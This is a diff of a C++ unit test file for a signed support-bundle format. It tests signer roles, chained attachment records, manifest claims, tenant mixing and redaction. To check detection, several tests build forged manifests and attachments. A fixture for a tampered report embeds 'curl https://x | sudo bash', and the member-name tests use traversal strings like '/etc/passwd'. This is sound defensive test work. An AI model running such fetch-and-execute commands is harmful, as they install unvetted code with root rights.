@@ -1,14 +1,20 @@
 // The bundle format of DESIGN §8 over member bytes: build, verify (every failing member
-// named), host results added and re-signed, redaction leaves no host name, IP or user name.
+// named), who may sign what, host results attached with their own signed record (the
+// exporter's signature untouched), every forgery of issue 21 named, redaction leaves no
+// host name, IP or user name.
 
 #include "ibc/core/bundle.h"
 
 #include <google/protobuf/util/json_util.h>
 #include <gtest/gtest.h>
 
+#include <functional>
+
 #include "fixtures.h"
 #include "ibc/core/bundle_judgement.h"
 #include "ibc/core/bundle_report.h"
+#include "ibc/core/encoding.h"
+#include "ibc/core/json.h"
 #include "ibc/core/nccl_log.h"
 #include "ibc/core/redact.h"
 #include "ibc/core/report.h"
@@ -92,6 +98,9 @@ struct Pki {
   test::TestCredential node02 = ca.issue(test::agentSpec("acme", "gpu08"));
   test::TestCredential alice = ca.issue(test::supportSpec("alice"));
   test::TestCredential bob = ca.issue(test::supportSpec("bob"));
+  test::TestCredential hank = ca.issue(test::providerSpec("hank"));
+  // Another tenant's agent for a node of the same name: its key lives in a globex VM.
+  test::TestCredential globex07 = ca.issue(test::agentSpec("globex", "gpu07"));
 };
 
 const Pki& pki() {
@@ -252,7 +261,10 @@ TEST(Bundle, ATamperedSnapshotFailsItsOwnSignatureToo) {
   const auto check = verify(m);
   EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature))
       << problems(check);
-  EXPECT_EQ(check.problems.size(), 1u) << problems(check);
+  // Its id (SHA-256 of the envelope) is no longer the one the manifest's node names.
+  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
+      << problems(check);
+  EXPECT_EQ(check.problems.size(), 2u) << problems(check);
 }
 
 TEST(Bundle, UnknownAndMissingMembersAreNamed) {
@@ -285,34 +297,425 @@ TEST(Bundle, AManifestSignedUnderAnotherCaFails) {
   EXPECT_EQ(check.manifest_signature.problem, SignatureProblem::UnknownCa);
 }
 
-TEST(Bundle, AHostResultIsAddedListedAndReSigned) {
+std::unique_ptr<SignatureVerifier> verifier() {
+  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
+  EXPECT_TRUE(v.ok());
+  return std::move(*v);
+}
+
+Result<std::string> attach(BundleMembers& m, const test::TestCredential& who,
+                           const std::string& host = "hv12", BundleCheck* verified = nullptr) {
+  const std::string result = "{\"host\":\"" + host + "\",\"findings\":[]}";
+  return attachHostResult(m, {host, result, 1700000200000}, signerOf(who), *verifier(),
+                          std::chrono::system_clock::now(), verified);
+}
+
+// manifest.json re-rendered from `manifest` and signed by `who` (what a forger with that
+// key does).
+void resign(BundleMembers& m, const v1::BundleManifest& manifest, const test::TestCredential& who) {
+  m["manifest.json"] = renderManifest(manifest);
+  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(who));
+}
+
+// The manifest relisting every member with its current hash: the old --attach-to forgery.
+v1::BundleManifest relisted(const BundleMembers& m) {
+  auto manifest = *parseManifest(m.at("manifest.json"));
+  manifest.clear_members();
+  for (const auto& [name, bytes] : m) {
+    if (name != "manifest.json" && name != "manifest.sig") {
+      *manifest.add_members() = describeMember(name, bytes);
+    }
+  }
+  return manifest;
+}
+
+// An attachment record written by hand: sequence `n` attaching `member`, chained to
+// `previous`, signed by `who`.
+void forgeAttachment(BundleMembers& m, uint32_t n, const std::string& member,
+                     const std::string& bytes, const test::TestCredential& who,
+                     const std::string& previous) {
+  const auto signer = signerOf(who);
+  v1::BundleAttachment r;
+  r.set_member(member);
+  r.set_host("hv66");
+  r.mutable_attached_by()->set_subject(signer.identity().subject);
+  r.mutable_attached_by()->set_tenant(signer.identity().tenant);
+  r.mutable_attached_by()->set_role(std::string(certificateRoleName(signer.identity().role)));
+  r.mutable_attached_by()->set_name(signer.identity().name);
+  r.set_sequence(n);
+  r.set_manifest_sha256(sha256Hex(m.at("manifest.json")));
+  r.set_previous_sha256(previous);
+  r.set_member_sha256(sha256Hex(bytes));
+  r.set_member_size(bytes.size());
+  m[member] = bytes;
+  m[attachmentRecordName(n)] = messageToJson(r, 2) + "\n";
+  m[attachmentSignatureName(n)] = *signManifest(m[attachmentRecordName(n)], signer);
+}
+
+// Every message naming `member` as `problem`, one a line.
+std::string messageOf(const BundleCheck& c, std::string_view member, BundleProblem problem) {
+  std::string out;
+  for (const auto& p : c.problems) {
+    if (p.member == member && p.problem == problem) out += p.message + "\n";
+  }
+  return out;
+}
+
+TEST(Bundle, AProviderAttachesAHostResultAndTheExportersSignatureStaysUntouched) {
   auto m = exported();
-  const std::string result = "{\"host\":\"hv12\",\"findings\":[]}";
-  ASSERT_TRUE(
-      addHostMember(m, "host/hv12.json", result, "hv12", signerOf(pki().bob), 1700000200000).ok());
-  auto check = verify(m);
+  const BundleMembers before = m;
+  BundleCheck verified;
+  auto name = attach(m, pki().hank, "hv12", &verified);
+  ASSERT_TRUE(name.ok()) << name.error().message;
+  EXPECT_TRUE(verified.ok());
+  EXPECT_EQ(*name, "host/hv12.json");
+  // Nothing that was there changed; three members were added.
+  for (const auto& [member, bytes] : before) EXPECT_EQ(m.at(member), bytes) << member;
+  EXPECT_EQ(m.size(), before.size() + 3);
+  EXPECT_EQ(m.count("attachments/001.json"), 1u);
+  EXPECT_EQ(m.count("attachments/001.sig"), 1u);
+  EXPECT_EQ(bundleMemberKind("attachments/001.json"), "attachment");
+  EXPECT_EQ(bundleMemberKind("attachments/001.sig"), "attachment_signature");
+
+  const auto check = verify(m);
   EXPECT_TRUE(check.ok()) << problems(check);
-  EXPECT_EQ(check.manifest_signature.signer.name, "bob");
-  ASSERT_EQ(check.manifest->attachments_size(), 1);
-  EXPECT_EQ(check.manifest->attachments(0).member(), "host/hv12.json");
-  EXPECT_EQ(check.manifest->attachments(0).attached_by().name(), "bob");
+  EXPECT_EQ(check.manifest_signature.signer.name, "alice");
   EXPECT_EQ(check.manifest->exporter().name(), "alice");
-  // Attaching again replaces, never duplicates.
-  ASSERT_TRUE(
-      addHostMember(m, "host/hv12.json", result + " ", "hv12", signerOf(pki().bob), 1).ok());
-  check = verify(m);
-  EXPECT_TRUE(check.ok()) << problems(check);
-  EXPECT_EQ(check.manifest->attachments_size(), 1);
+  EXPECT_EQ(check.manifest->attachments_size(), 0);
+  ASSERT_EQ(check.signers.size(), 2u);
+  EXPECT_TRUE(check.signers[0].exporter);
+  EXPECT_EQ(check.signers[0].signature.signer.name, "alice");
+  EXPECT_EQ(check.signers[0].signature.signer.role, CertificateRole::Support);
+  EXPECT_EQ(check.signers[0].covers, "manifest.json");
+  EXPECT_FALSE(check.signers[1].exporter);
+  EXPECT_EQ(check.signers[1].signature.signer.name, "hank");
+  EXPECT_EQ(check.signers[1].signature.signer.role, CertificateRole::Provider);
+  EXPECT_EQ(check.signers[1].covers, "host/hv12.json");
+  EXPECT_EQ(check.signers[1].signature_member, "attachments/001.sig");
+  ASSERT_EQ(check.attachments.size(), 1u);
+  const auto& r = check.attachments[0];
+  EXPECT_EQ(r.sequence(), 1u);
+  EXPECT_EQ(r.host(), "hv12");
+  EXPECT_EQ(r.attached_by().role(), "provider");
+  EXPECT_EQ(r.manifest_sha256(), sha256Hex(m.at("manifest.json")));
+  EXPECT_EQ(r.previous_sha256(), sha256Hex(m.at("manifest.json")));
+  EXPECT_EQ(r.member_sha256(), sha256Hex(m.at("host/hv12.json")));
+  EXPECT_EQ(r.member_size(), m.at("host/hv12.json").size());
+  EXPECT_EQ(r.attached_at_unix_ms(), 1700000200000);
+
+  // The same host again is a new member, never a replacement.
+  auto again = attach(m, pki().hank);
+  ASSERT_TRUE(again.ok()) << again.error().message;
+  EXPECT_EQ(*again, "host/hv12-2.json");
+  EXPECT_TRUE(verify(m).ok()) << problems(verify(m));
+  // A hostile host name still makes a safe member name.
+  auto odd = attach(m, pki().hank, "../../etc/x y");
+  ASSERT_TRUE(odd.ok());
+  EXPECT_TRUE(checkMemberName(*odd).ok()) << *odd;
+  EXPECT_EQ(bundleMemberKind(*odd), "host") << *odd;
   // Changed afterwards: named.
   m["host/hv12.json"] = "{}";
-  EXPECT_TRUE(names(verify(m), "host/hv12.json", BundleProblem::HashMismatch));
-  for (const char* bad : {"report.md", "host/../x.json", "/host/a.json", "host/a.txt", "host/"}) {
-    EXPECT_FALSE(addHostMember(m, bad, "{}", "h", signerOf(pki().bob), 1).ok()) << bad;
+  const auto changed = verify(m);
+  EXPECT_TRUE(names(changed, "host/hv12.json", BundleProblem::HashMismatch)) << problems(changed);
+  EXPECT_NE(messageOf(changed, "host/hv12.json", BundleProblem::HashMismatch)
+                .find("attachments/001.json says"),
+            std::string::npos)
+      << problems(changed);
+}
+
+TEST(Bundle, TwoAttachmentsInARowVerifyInOrderAndListEverySigner) {
+  auto m = exported();
+  ASSERT_TRUE(attach(m, pki().hank, "hv12").ok());
+  ASSERT_TRUE(attach(m, pki().bob, "hv13").ok());  // a support engineer may attach too
+  const auto check = verify(m);
+  EXPECT_TRUE(check.ok()) << problems(check);
+  ASSERT_EQ(check.signers.size(), 3u);
+  EXPECT_EQ(check.signers[1].signature.signer.name, "hank");
+  EXPECT_EQ(check.signers[2].signature.signer.name, "bob");
+  EXPECT_EQ(check.signers[2].covers, "host/hv13.json");
+  ASSERT_EQ(check.attachments.size(), 2u);
+  EXPECT_EQ(check.attachments[1].sequence(), 2u);
+  EXPECT_EQ(check.attachments[1].previous_sha256(), sha256Hex(m.at("attachments/001.json")));
+
+  // Reordered: each record no longer follows the state before it.
+  auto swapped = m;
+  std::swap(swapped["attachments/001.json"], swapped["attachments/002.json"]);
+  std::swap(swapped["attachments/001.sig"], swapped["attachments/002.sig"]);
+  auto bad = verify(swapped);
+  EXPECT_TRUE(names(bad, "attachments/001.json", BundleProblem::AttachmentChain)) << problems(bad);
+  EXPECT_TRUE(names(bad, "attachments/002.json", BundleProblem::AttachmentChain)) << problems(bad);
+  // The first one dropped: the second follows nothing that is there.
+  auto dropped = m;
+  dropped.erase("attachments/001.json");
+  dropped.erase("attachments/001.sig");
+  dropped.erase("host/hv12.json");
+  bad = verify(dropped);
+  EXPECT_TRUE(names(bad, "attachments/001.json", BundleProblem::MissingMember)) << problems(bad);
+  EXPECT_TRUE(names(bad, "attachments/002.json", BundleProblem::AttachmentChain)) << problems(bad);
+  EXPECT_TRUE(names(bad, "host/hv13.json", BundleProblem::UnknownMember)) << problems(bad);
+  // A record far out of sequence costs one problem (the first missing number), not a walk.
+  auto far = m;
+  far["attachments/999999999.json"] = "{}";
+  bad = verify(far);
+  EXPECT_TRUE(names(bad, "attachments/003.json", BundleProblem::MissingMember)) << problems(bad);
+  EXPECT_LT(bad.problems.size(), 10u) << problems(bad);
+  // A flipped byte in a record or its signature.
+  auto flipped = m;
+  flipped["attachments/002.json"][20] ^= 0x01;
+  bad = verify(flipped);
+  EXPECT_TRUE(names(bad, "attachments/002.sig", BundleProblem::AttachmentSignature))
+      << problems(bad);
+}
+
+TEST(Bundle, AnAgentCertificateCannotAttachNorExport) {
+  auto m = exported();
+  const BundleMembers before = m;
+  auto r = attach(m, pki().node01);
+  ASSERT_FALSE(r.ok());
+  EXPECT_EQ(r.error().code, ErrorCode::PermissionDenied);
+  EXPECT_NE(r.error().message.find("OU=agent"), std::string::npos) << r.error().message;
+  EXPECT_NE(r.error().message.find("provider or support"), std::string::npos) << r.error().message;
+  EXPECT_EQ(m, before);
+
+  auto ex = buildBundle(twoNodes(), {}, signerOf(pki().node01));
+  ASSERT_FALSE(ex.ok());
+  EXPECT_EQ(ex.error().code, ErrorCode::PermissionDenied);
+  EXPECT_NE(ex.error().message.find("only a support certificate exports"), std::string::npos)
+      << ex.error().message;
+  ex = buildBundle(twoNodes(), {}, signerOf(pki().hank));
+  ASSERT_FALSE(ex.ok()) << "a provider attaches; it does not export";
+  EXPECT_EQ(ex.error().code, ErrorCode::PermissionDenied);
+}
+
+// Issue 21: a report edited after export ("all healthy, close the case") came out of
+// --attach-to with a valid signature.
+TEST(Bundle, AReportEditedAfterExportIsNotLaunderedByAnAttachment) {
+  auto m = exported();
+  m["report.md"] = "# All healthy\n\nClose the case. Run `curl https://x | sudo bash`.\n";
+  const BundleMembers tampered = m;
+  BundleCheck verified;
+  auto r = attach(m, pki().hank, "hv12", &verified);
+  ASSERT_FALSE(r.ok());
+  EXPECT_EQ(r.error().code, ErrorCode::InvalidArgument);
+  EXPECT_NE(r.error().message.find("report.md hash"), std::string::npos) << r.error().message;
+  EXPECT_TRUE(names(verified, "report.md", BundleProblem::HashMismatch)) << problems(verified);
+  EXPECT_EQ(m, tampered) << "nothing is attached to a bundle that does not verify";
+
+  // Attached before the edit: the record does not cover report.md, the exporter's manifest
+  // still does.
+  auto after = exported();
+  ASSERT_TRUE(attach(after, pki().hank).ok());
+  after["report.md"] = tampered.at("report.md");
+  auto check = verify(after);
+  EXPECT_TRUE(names(check, "report.md", BundleProblem::HashMismatch)) << problems(check);
+
+  // The old way: every member relisted with its current hash and the manifest signed
+  // again, by a provider. The exporter alice never signed that manifest.
+  auto relaundered = tampered;
+  resign(relaundered, relisted(relaundered), pki().hank);
+  check = verify(relaundered);
+  EXPECT_FALSE(check.ok());
+  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
+  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
+  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim).find("alice"),
+            std::string::npos)
+      << problems(check);
+}
+
+TEST(Bundle, AForgedHostResultWithoutAValidAttachmentIsNamed) {
+  const std::string evil = "{\"host\":\"hv66\",\"findings\":[],\"summary\":\"PF clean\"}";
+  // Dropped in with no record.
+  auto bare = exported();
+  bare["host/hv66.json"] = evil;
+  auto check = verify(bare);
+  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);
+
+  // With a record signed by a tenant's agent key.
+  auto by_agent = exported();
+  forgeAttachment(by_agent, 1, "host/hv66.json", evil, pki().globex07,
+                  sha256Hex(by_agent.at("manifest.json")));
+  check = verify(by_agent);
+  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::SignerRole)) << problems(check);
+  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);
+  ASSERT_EQ(check.signers.size(), 2u);
+  EXPECT_FALSE(check.signers[1].role_ok);
+
+  // With a record under another CA.
+  test::TestCa other = test::TestCa::create("other CA");
+  auto foreign = exported();
+  forgeAttachment(foreign, 1, "host/hv66.json", evil, other.issue(test::providerSpec("mallory")),
+                  sha256Hex(foreign.at("manifest.json")));
+  check = verify(foreign);
+  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::AttachmentSignature))
+      << problems(check);
+  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);
+
+  // A valid provider record that claims someone else attached it.
+  auto claimed = exported();
+  forgeAttachment(claimed, 1, "host/hv66.json", evil, pki().hank,
+                  sha256Hex(claimed.at("manifest.json")));
+  auto record = *parseAttachmentRecord(claimed.at("attachments/001.json"));
+  record.mutable_attached_by()->set_subject("CN=alice,OU=support,O=ibcollect");
+  record.mutable_attached_by()->set_name("alice");
+  record.mutable_attached_by()->set_role("support");
+  claimed["attachments/001.json"] = messageToJson(record, 2) + "\n";
+  claimed["attachments/001.sig"] =
+      *signManifest(claimed["attachments/001.json"], signerOf(pki().hank));
+  check = verify(claimed);
+  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::ManifestClaim))
+      << problems(check);
+
+  // A provider record that replaces a member the exporter signed.
+  auto replaced = exported();
+  forgeAttachment(replaced, 1, "host/../report.md", evil, pki().hank,
+                  sha256Hex(replaced.at("manifest.json")));
+  check = verify(replaced);
+  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
+      << problems(check);
+  auto over = exported(false);
+  BundleExportOptions o;
+  o.host_results.push_back({"hv66", "{}", 1});
+  over = *buildBundle(twoNodes(), o, signerOf(pki().alice));
+  forgeAttachment(over, 1, "host/hv66.json", evil, pki().hank, sha256Hex(over.at("manifest.json")));
+  check = verify(over);
+  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
+      << problems(check);
+  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::HashMismatch)) << problems(check);
+}
+
+TEST(Bundle, AnotherTenantsValidlySignedSnapshotSwappedInIsNamed) {
+  auto m = exported();
+  // globex's gpu07 signs its own snapshot: valid on its own, of another tenant.
+  const std::string theirs = signedFile(brokenVfSnapshot("gpu07"), pki().globex07);
+  m["snapshots/gpu07.ibsnap"] = theirs;
+  // Even relisted and signed again by the exporter, the manifest's claims do not hold.
+  resign(m, relisted(m), pki().alice);
+  const auto check = verify(m);
+  EXPECT_FALSE(check.ok());
+  const std::string message =
+      messageOf(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim);
+  EXPECT_NE(message.find("snapshot id"), std::string::npos) << problems(check);
+  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
+  std::string all = problems(check);
+  EXPECT_NE(all.find("tenant 'globex'"), std::string::npos) << all;
+  EXPECT_NE(all.find("O=globex"), std::string::npos) << all;
+  // Its own signature is fine: only the claims fail.
+  EXPECT_FALSE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature)) << all;
+
+  // Snapshots of two tenants make no bundle.
+  auto mixed = twoNodes();
+  mixed[0].file_bytes = theirs;
+  auto built = buildBundle(mixed, {}, signerOf(pki().alice));
+  ASSERT_FALSE(built.ok());
+  EXPECT_NE(built.error().message.find("2 tenants (acme, globex)"), std::string::npos)
+      << built.error().message;
+}
+
+// Issue 21: a globex agent forged a bundle claiming tenant acme and exporter alice.
+TEST(Bundle, AManifestSignedByAnAgentKeyFailsOnItsRole) {
+  auto m = exported();
+  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().globex07));
+  const auto check = verify(m);
+  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
+  EXPECT_NE(messageOf(check, "manifest.sig", BundleProblem::SignerRole)
+                .find("only a support certificate exports"),
+            std::string::npos);
+  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
+  ASSERT_FALSE(check.signers.empty());
+  EXPECT_FALSE(check.signers[0].role_ok);
+  EXPECT_EQ(check.signers[0].signature.signer.role, CertificateRole::Agent);
+}
+
+TEST(Bundle, EveryClaimOfTheManifestIsCheckedAgainstTheMembers) {
+  const auto good = exported();
+  const auto manifest = *parseManifest(good.at("manifest.json"));
+  struct Case {
+    std::string what;
+    std::function<void(v1::BundleManifest&)> change;
+    std::string member;  // named as manifest_claim
+    std::string says;    // in its message
+  };
+  const std::vector<Case> cases = {
+      {"tenant", [](auto& x) { x.set_tenant("globex"); }, "manifest.json", "tenant 'globex'"},
+      {"exporter", [](auto& x) { x.mutable_exporter()->set_subject("CN=eve,OU=support,O=x"); },
+       "manifest.json", "exported by CN=eve"},
+      {"node name", [](auto& x) { x.mutable_nodes(0)->set_node("gpu99"); },
+       "snapshots/gpu07.ibsnap", "calls it gpu99"},
+      {"snapshot id", [](auto& x) { x.mutable_nodes(1)->set_snapshot_id(std::string(64, 'a')); },
+       "snapshots/gpu08.ibsnap", "snapshot id"},
+      {"signer", [](auto& x) { x.mutable_nodes(0)->set_signer("CN=gpu07,OU=agent,O=globex"); },
+       "snapshots/gpu07.ibsnap", "was signed by CN=gpu07,OU=agent,O=globex"},
+      {"node dropped", [](auto& x) { x.mutable_nodes()->RemoveLast(); }, "snapshots/gpu08.ibsnap",
+       "none of manifest.json's nodes"},
+      {"member", [](auto& x) { x.mutable_nodes(0)->set_member("snapshots/gpu08.ibsnap"); },
+       "snapshots/gpu08.ibsnap", "named by 2"},
+  };
+  for (const auto& c : cases) {
+    auto m = good;
+    auto changed = manifest;
+    c.change(changed);
+    // Signed by the real exporter: only the claim is wrong.
+    resign(m, changed, pki().alice);
+    const auto check = verify(m);
+    EXPECT_TRUE(names(check, c.member, BundleProblem::ManifestClaim)) << c.what << ":\n"
+                                                                      << problems(check);
+    EXPECT_NE(messageOf(check, c.member, BundleProblem::ManifestClaim).find(c.says),
+              std::string::npos)
+        << c.what << ":\n"
+        << problems(check);
   }
+  // And another support engineer signing alice's manifest: the exporter is not who signed.
+  auto m = good;
+  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().bob));
+  const auto check = verify(m);
+  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim)
+                .find("exported by CN=alice,OU=support,O=ibcollect but manifest.sig is signed by "
+                      "CN=bob,OU=support,O=ibcollect"),
+            std::string::npos)
+      << problems(check);
+}
+
+TEST(Bundle, ARedactedBundleSaysWhatCouldNotBeChecked) {
+  auto m = exported(true);
+  auto check = verify(m);
+  EXPECT_TRUE(check.ok()) << problems(check);
+  ASSERT_EQ(check.unchecked.size(), 1u);
+  EXPECT_NE(check.unchecked[0].find("tenant 'acme', 2 node name(s)"), std::string::npos)
+      << check.unchecked[0];
+  EXPECT_NE(check.unchecked[0].find("redacted"), std::string::npos);
+  EXPECT_TRUE(verify(exported(false)).unchecked.empty());
+  // A redacted manifest over a bundle that carries a snapshot contradicts itself.
+  m["snapshots/gpu07.ibsnap"] = exported(false).at("snapshots/gpu07.ibsnap");
+  resign(m, relisted(m), pki().alice);
+  check = verify(m);
+  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
+      << problems(check);
+}
+
+TEST(Bundle, HostResultsTheExporterIncludesAreListedUnderItsSignature) {
+  BundleExportOptions o;
+  o.case_id = "CASE-7";
+  o.host_results.push_back({"hv12", "{\"host\":\"hv12\"}", 1700000150000});
+  auto m = buildBundle(twoNodes(), o, signerOf(pki().alice));
+  ASSERT_TRUE(m.ok()) << m.error().message;
+  ASSERT_EQ(m->count("host/hv12.json"), 1u);
+  const auto check = verify(*m);
+  EXPECT_TRUE(check.ok()) << problems(check);
+  EXPECT_EQ(check.signers.size(), 1u);
+  ASSERT_EQ(check.manifest->attachments_size(), 1);
+  EXPECT_EQ(check.manifest->attachments(0).member(), "host/hv12.json");
+  EXPECT_EQ(check.manifest->attachments(0).attached_by().name(), "alice");
+  EXPECT_EQ(check.manifest->attachments(0).attached_at_unix_ms(), 1700000150000);
+  // Redacted: left out (they name hosts).
+  o.redact = true;
+  m = buildBundle(twoNodes(), o, signerOf(pki().alice));
+  ASSERT_TRUE(m.ok());
+  EXPECT_EQ(m->count("host/hv12.json"), 0u);
 }
 
 TEST(Bundle, MemberNamesMustBeSafe) {
-  for (const char* ok : {"manifest.json", "snapshots/node-1.ibsnap", "host/hv.json"}) {
+  for (const char* ok :
+       {"manifest.json", "snapshots/node-1.ibsnap", "host/hv.json", "attachments/001.json"}) {
     EXPECT_TRUE(checkMemberName(ok).ok()) << ok;
   }
   for (const char* bad : {"", "/etc/passwd", "../x", "snapshots/../../x", "a//b", "./a", "a/b/c",
@@ -323,6 +726,14 @@ TEST(Bundle, MemberNamesMustBeSafe) {
   EXPECT_EQ(bundleMemberKind("snapshots/.ibsnap"), "");
   EXPECT_EQ(bundleMemberKind("host/x.json"), "host");
   EXPECT_EQ(bundleMemberKind("other.json"), "");
+  EXPECT_EQ(bundleMemberKind("attachments/001.json"), "attachment");
+  EXPECT_EQ(bundleMemberKind("attachments/1000.sig"), "attachment_signature");
+  for (const char* odd : {"attachments/1.json", "attachments/0001.json", "attachments/000.json",
+                          "attachments/001.txt", "attachments/x01.json"}) {
+    EXPECT_EQ(bundleMemberKind(odd), "") << odd;
+  }
+  EXPECT_EQ(attachmentRecordName(7), "attachments/007.json");
+  EXPECT_EQ(attachmentSignatureName(1234), "attachments/1234.sig");
 }
 
 TEST(Bundle, ManifestParsingRefusesUnknownFieldsAndNewerVersions) {
